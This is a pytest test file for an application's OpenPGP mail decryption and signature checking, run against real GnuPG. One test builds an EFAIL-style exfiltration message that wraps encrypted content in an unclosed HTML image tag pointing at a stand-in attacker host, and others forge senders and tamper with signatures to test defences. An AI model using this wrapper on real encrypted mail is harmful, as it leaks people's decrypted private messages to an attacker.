"""Unprotecting OpenPGP mail (PGP/MIME, inline, attachments) with real GnuPG.

Keys are generated here: a debtor's key in the debtor's home and the hub's key (with a
passphrase) in the hub's home; each home holds the other's public key. Messages are made by
the hub's own outgoing code (``PgpKeystore.protect_pgp_mime``, ``sign_detached``) and by the
``gpg`` command line, then opened with :func:`hub.inbound.unprotect.unprotect`.
"""

from __future__ import annotations

import email.policy
import json
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import pytest
from click.testing import CliRunner
from pydantic import SecretStr

from hub.cli.main import cli
from hub.crypto.autocrypt import autocrypt_header
from hub.crypto.mime_parts import canonical_bytes, inner_entity, protect_message
from hub.crypto.pgp import PgpKeystore
from hub.inbound.unprotect import (
    DecryptionVerdict,
    InboundKeys,
    SignatureVerdict,
    aunprotect,
    unprotect,
)

DEBTOR = "dana@debtor.example"
HUB = "replies@hub.example"
HUB_PASSPHRASE = "hub key passphrase"


def _run(home: Path, *args: str, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        ["gpg", "--homedir", str(home), "--batch", "--no-tty", "--status-fd", "2", *args],
        input=stdin,
        capture_output=True,
        check=True,
        timeout=60,
    )


def _gpg(home: Path, *args: str, stdin: bytes = b"") -> bytes:
    """gpg's output (stdout only)."""
    return _run(home, *args, stdin=stdin).stdout


def _new_key(home: Path, uid: str, passphrase: str = "") -> str:
    pw = ["--pinentry-mode", "loopback", "--passphrase", passphrase]
    out = _run(home, *pw, "--quick-gen-key", uid, "ed25519", "sign", "1y").stderr.decode()
    match = re.search(r"KEY_CREATED [BP] ([0-9A-F]{40})", out)
    assert match, out
    _run(home, *pw, "--quick-add-key", match.group(1), "cv25519", "encr", "1y")
    return match.group(1)


@dataclass
class Pgp:
    debtor: PgpKeystore
    debtor_fpr: str
    hub: PgpKeystore
    hub_fpr: str
    stranger: PgpKeystore
    stranger_fpr: str
    keys: InboundKeys


@pytest.fixture(scope="module")
def pgp(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pgp]:
    base = tmp_path_factory.mktemp("pgp")
    debtor = PgpKeystore(base / "debtor")
    hub = PgpKeystore(base / "hub", s2k_count=65536)
    stranger = PgpKeystore(base / "stranger")
    debtor_fpr = _new_key(debtor.home, f"Dana Debtor <{DEBTOR}>")
    hub_fpr = _new_key(hub.home, f"Hub <{HUB}>", HUB_PASSPHRASE)
    stranger_fpr = _new_key(stranger.home, f"Dana Debtor <{DEBTOR}>")
    hub.import_key(debtor.export_public_key(debtor_fpr))
    debtor.import_key(hub.export_public_key(hub_fpr))
    stranger.import_key(hub.export_public_key(hub_fpr))
    keys = InboundKeys(gnupghome=hub.home, pgp_passphrase=SecretStr(HUB_PASSPHRASE))
    yield Pgp(debtor, debtor_fpr, hub, hub_fpr, stranger, stranger_fpr, keys)
    for store in (debtor, hub, stranger):
        store.close()


def _plain(body: str, *, sender: str = DEBTOR, subject: str = "Re: your invoice") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = f"Dana Debtor <{sender}>"
    msg["To"] = HUB
    msg["Subject"] = subject
    msg["Message-ID"] = "<reply-1@debtor.example>"
    msg.set_content(body)
    return msg


def _signed_mime(pgp: Pgp, body: str, *, sender: str = DEBTOR) -> bytes:
    """RFC 3156 multipart/signed made from the hub's own detached signing."""
    plain = _plain(body, sender=sender)
    content = canonical_bytes(inner_entity(plain))
    signature = pgp.debtor.sign_detached(content, pgp.debtor_fpr, None)
    headers = b"".join(
        f"{name}: {value}\r\n".encode()
        for name, value in plain.items()
        if name != "Content-Type" and not name.startswith("Content-") and name != "MIME-Version"
    )
    return (
        headers
        + b"MIME-Version: 1.0\r\n"
        + b'Content-Type: multipart/signed; micalg=pgp-sha256;\r\n protocol="application/'
        b'pgp-signature"; boundary="sig-b"\r\n\r\n--sig-b\r\n'
        + content
        + b"\r\n--sig-b\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\n"
        + signature
        + b"\r\n--sig-b--\r\n"
    )


def _encrypted_mime(pgp: Pgp, body: str, *, sender: str = DEBTOR) -> bytes:
    plain = _plain(body, sender=sender)

    def protect(inner: EmailMessage) -> EmailMessage:
        return pgp.debtor.protect_pgp_mime(inner, pgp.hub_fpr, pgp.debtor_fpr, None)

    return protect_message(plain, protect).as_bytes(policy=email.policy.SMTP)


def _inline(header_body: bytes, sender: str = DEBTOR) -> bytes:
    return (
        f"From: {sender}\r\nTo: {HUB}\r\nSubject: inline\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n"
    ).encode() + header_body


def test_pgp_mime_encrypted_and_signed(pgp: Pgp) -> None:
    raw = _encrypted_mime(pgp, "I will pay 120 EUR on Friday.\n")
    result = unprotect(raw, pgp.keys)
    assert result.encrypted and result.decrypted and result.integrity_protected is True
    assert "I will pay 120 EUR on Friday." in result.text_body()
    check = result.best_signature
    assert check is not None and check.verdict is SignatureVerdict.VALID
    assert check.fingerprint == pgp.debtor_fpr and check.matches_from
    assert check.signer == f"Dana Debtor <{DEBTOR}>"
    # The ciphertext is kept exactly as received.
    assert result.decryptions[0].ciphertext.startswith(b"-----BEGIN PGP MESSAGE-----")
    assert result.decryptions[0].ciphertext in raw
    assert all(part.encrypted for part in result.parts)


def test_pgp_mime_without_our_key_is_not_decrypted(pgp: Pgp) -> None:
    raw = _encrypted_mime(pgp, "secret words\n")
    result = unprotect(raw, InboundKeys(gnupghome=pgp.debtor.home))
    assert result.encrypted and not result.decrypted
    assert result.decryptions[0].verdict is DecryptionVerdict.NO_KEY
    assert "secret words" not in result.text_body()
    assert result.parts == ()


def test_pgp_mime_signed_valid_tampered_and_wrong_from(pgp: Pgp) -> None:
    raw = _signed_mime(pgp, "Please call me back.\n")
    good = unprotect(raw, pgp.keys)
    assert not good.encrypted and good.signed and good.signature_valid
    assert good.best_signature is not None
    assert good.best_signature.verdict is SignatureVerdict.VALID
    assert good.parts[0].signed and "Please call me back." in good.text_body()

    tampered = unprotect(raw.replace(b"call me back", b"call me BACK"), pgp.keys)
    assert tampered.best_signature is not None
    assert tampered.best_signature.verdict is SignatureVerdict.INVALID
    assert not tampered.signature_valid and not tampered.parts[0].signed

    # LF line ends in transit do not break the signature (canonical CRLF form is verified).
    relaxed = unprotect(raw.replace(b"\r\n", b"\n"), pgp.keys)
    assert relaxed.signature_valid

    forged_from = raw.replace(f"Dana Debtor <{DEBTOR}>".encode(), b"Eve <eve@else.example>", 1)
    mismatch = unprotect(forged_from, pgp.keys)
    assert mismatch.best_signature is not None
    assert mismatch.best_signature.verdict is SignatureVerdict.SIGNER_MISMATCH
    assert not mismatch.best_signature.matches_from


def test_signature_by_unknown_key(pgp: Pgp) -> None:
    armored = _gpg(pgp.stranger.home, "--clearsign", stdin=b"I am Dana, really.\n")
    block = armored.strip()
    result = unprotect(_inline(block), pgp.keys)
    assert result.best_signature is not None
    assert result.best_signature.verdict is SignatureVerdict.UNKNOWN_KEY
    assert not result.signature_valid


def test_inline_encrypted_and_signed_from_gpg_command_line(pgp: Pgp) -> None:
    armored = _gpg(
        pgp.debtor.home,
        "--trust-model",
        "always",
        "--armor",
        "--sign",
        "--encrypt",
        "--local-user",
        pgp.debtor_fpr,
        "--recipient",
        pgp.hub_fpr,
        "--output",
        "-",
        stdin="Ich zahle am Montag. Grüße\n".encode(),
    )
    block = armored.strip()
    raw = _inline(b"Hello,\r\n\r\n" + block + b"\r\nsent from my phone\r\n")
    result = unprotect(raw, pgp.keys)
    assert result.decrypted and result.signature_valid
    assert result.text_body().strip() == "Ich zahle am Montag. Grüße"
    # The text around the block was not encrypted: kept apart, never in the body.
    outside = result.unencrypted_text()
    assert "Hello," in outside and "sent from my phone" in outside


def test_inline_clearsigned_and_quoted_signature(pgp: Pgp) -> None:
    armored = _gpg(
        pgp.debtor.home,
        "--local-user",
        pgp.debtor_fpr,
        "--clearsign",
        stdin=b"- dash line\nPayment plan accepted.\n",
    )
    block = armored.strip()
    result = unprotect(_inline(block), pgp.keys)
    assert result.signature_valid and not result.encrypted
    assert result.text_body().strip() == "- dash line\nPayment plan accepted."

    quoted = b"See below.\r\n\r\n" + b"".join(b"> " + line + b"\r\n" for line in block.splitlines())
    as_quoted = unprotect(_inline(quoted), pgp.keys)
    assert not as_quoted.signed and as_quoted.signatures == ()
    assert "> -----BEGIN PGP SIGNED MESSAGE-----" in as_quoted.text_body()


def test_message_without_integrity_protection_is_refused(pgp: Pgp) -> None:
    armored = _gpg(
        pgp.debtor.home,
        "--trust-model",
        "always",
        "--rfc2440",
        "--cipher-algo",
        "AES",
        "--armor",
        "--encrypt",
        "--recipient",
        pgp.hub_fpr,
        "--output",
        "-",
        stdin=b"exfiltrate me\n",
    )
    block = armored.strip()
    result = unprotect(_inline(block), pgp.keys)
    assert result.encrypted and not result.decrypted
    check = result.decryptions[0]
    assert check.verdict is DecryptionVerdict.REFUSED_NO_INTEGRITY
    assert check.integrity_protected is False and result.integrity_protected is False
    assert check.ciphertext == block
    assert all(b"exfiltrate me" not in part.payload for part in result.parts)
    assert "exfiltrate me" not in result.text_body()


def test_efail_unencrypted_parts_stay_apart(pgp: Pgp) -> None:
    encrypted = _encrypted_mime(pgp, "the real reply\n")
    inner = encrypted[encrypted.index(b"Content-Type: multipart/encrypted") :]
    raw = (
        (
            f"From: {DEBTOR}\r\nTo: {HUB}\r\nSubject: efail\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
            '--outer\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
            "--outer\r\n"
        ).encode()
        + inner
        + (
            b"\r\n--outer\r\nContent-Type: text/plain\r\n\r\nunencrypted lure\r\n"
            b'--outer\r\nContent-Type: text/html\r\n\r\n">\r\n--outer--\r\n'
        )
    )
    result = unprotect(raw, pgp.keys)
    assert result.decrypted
    assert result.text_body().strip() == "the real reply"
    apart = result.unencrypted_parts()
    assert [p.content_type for p in apart] == ["text/html", "text/plain", "text/html"]
    assert "unencrypted lure" in result.unencrypted_text()
    assert "evil" not in result.text_body() and "lure" not in result.text_body()


def test_encrypted_attachment_and_learnt_keys(pgp: Pgp) -> None:
    attachment = bytes(range(256)) * 4
    ciphertext = _gpg(
        pgp.debtor.home,
        "--trust-model",
        "always",
        "--encrypt",
        "--recipient",
        pgp.hub_fpr,
        "--output",
        "-",
        stdin=attachment,
    )
    plain = _plain("see attachment")
    plain.add_attachment(
        ciphertext,
        maintype="application",
        subtype="octet-stream",
        filename="statement.pdf.pgp",
    )
    plain.add_attachment(
        pgp.debtor.export_public_key(pgp.debtor_fpr, armor=True),
        maintype="application",
        subtype="pgp-keys",
        filename="dana.asc",
    )
    plain["Autocrypt"] = autocrypt_header(
        DEBTOR, pgp.debtor.export_minimal_key(pgp.debtor_fpr, DEBTOR)
    )
    result = unprotect(plain.as_bytes(policy=email.policy.SMTP), pgp.keys)
    decrypted = [p for p in result.attachments() if p.filename == "statement.pdf"]
    assert decrypted and decrypted[0].payload == attachment and decrypted[0].encrypted
    sources = {(k.source, k.fingerprint) for k in result.learnt_keys}
    assert ("autocrypt", pgp.debtor_fpr) in sources
    assert all(DEBTOR in k.addresses for k in result.learnt_keys)
    assert len(result.learnt_keys) == 1  # the same key twice is learnt once

    plain.replace_header("From", "Eve <eve@else.example>")
    wrong = unprotect(plain.as_bytes(policy=email.policy.SMTP), pgp.keys)
    assert [k.source for k in wrong.learnt_keys] == ["attachment"]
    assert any("Autocrypt" in e for e in wrong.errors)


async def test_async_unprotect(pgp: Pgp) -> None:
    result = await aunprotect(_signed_mime(pgp, "async\n"), pgp.keys)
    assert result.signature_valid


def test_hub_inspect_cli(pgp: Pgp, tmp_path: Path) -> None:
    message = tmp_path / "reply.eml"
    message.write_bytes(_encrypted_mime(pgp, "cli reply\n"))
    secret = tmp_path / "pass"
    secret.write_text(HUB_PASSPHRASE + "\n")
    secret.chmod(0o644)
    runner = CliRunner()
    args = ["inspect", "--gnupghome", str(pgp.hub.home), "--pgp-passphrase-file", str(secret)]
    refused = runner.invoke(cli, [*args, str(message)])
    assert refused.exit_code == 2 and "chmod 600" in refused.output
    secret.chmod(0o600)
    done = runner.invoke(cli, [*args, str(message), str(tmp_path / "missing.eml")])
    assert done.exit_code == 0, done.output
    first, second = (json.loads(line) for line in done.output.splitlines())
    assert first["text"].strip() == "cli reply"
    assert first["crypto"]["decrypted"] and first["crypto"]["signature_valid"]
    assert DEBTOR in first["crypto"]["signer"] and first["crypto"]["signer_matches_from"]
    assert "error" in second
